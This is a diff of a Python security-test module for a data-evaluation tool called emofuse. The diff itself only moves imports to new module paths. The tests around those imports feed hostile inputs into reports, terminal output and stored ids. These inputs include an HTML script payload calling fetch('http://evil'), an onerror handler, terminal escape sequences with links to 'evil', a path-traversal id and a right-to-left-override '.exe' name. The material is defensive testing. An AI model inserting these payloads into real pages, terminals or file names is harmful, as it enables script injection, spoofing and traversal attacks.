@@ -11,10 +11,12 @@ import pyarrow as pa
 from broken import encoded, scene
 
 from attacks.common import Owner, attack, refused
-from emofuse import runs, schema, storage
 from emofuse.config import JudgeConfig, MediaConfig, StatisticsConfig
-from emofuse.media import read_bytes
-from emofuse.runs import Run
+from emofuse.io import storage
+from emofuse.io.images import read_bytes
+from emofuse.runs import run as runs
+from emofuse.runs.run import Run
+from emofuse.tables import schema
 
 
 def predictions(ids: list[str], uri: str = "a.jpg", group: str = "g") -> pa.Table:
@@ -32,7 +34,7 @@ def predictions(ids: list[str], uri: str = "a.jpg", group: str = "g") -> pa.Tabl
 
 @attack("HTML and scripts as file names, ids, groups and title of a data set, in the report")
 def hostile_names(folder: Path) -> str:
-    from emofuse.pipeline.judge import judge
+    from emofuse.evaluation.evaluate_table import judge
     from emofuse.report import build_report
 
     script = "<script>fetch('http://evil')</script>\"'><img src=x onerror=alert(1)>"
@@ -55,7 +57,7 @@ def hostile_names(folder: Path) -> str:
 @attack("terminal commands and rich's markup in names, on the terminal")
 def hostile_terminal(folder: Path) -> str:
     from emofuse.errors import DataError
-    from emofuse.remote import printable
+    from emofuse.io.addresses import printable
 
     evil = "\x1b[2J\x1b]8;;http://evil\x07[/red][link=http://evil]x"
     assert "\x1b" not in printable(evil)
@@ -103,8 +105,8 @@ def secrets(folder: Path) -> str:
 
 @attack("a sample id of 10 MB, and ids of control characters, through the whole judgement")
 def hostile_ids(folder: Path) -> str:
-    from emofuse.pipeline.judge import judge
-    from emofuse.pipeline.sink import commit
+    from emofuse.evaluation.evaluate_table import judge
+    from emofuse.inference.sink import commit
 
     table = predictions(["x" * 10_000_000, "\x1b[2J", "a/../../b", "\n", "‮gpj.exe", "😀"])
     name = commit(str(folder / "predictions"), table, {})
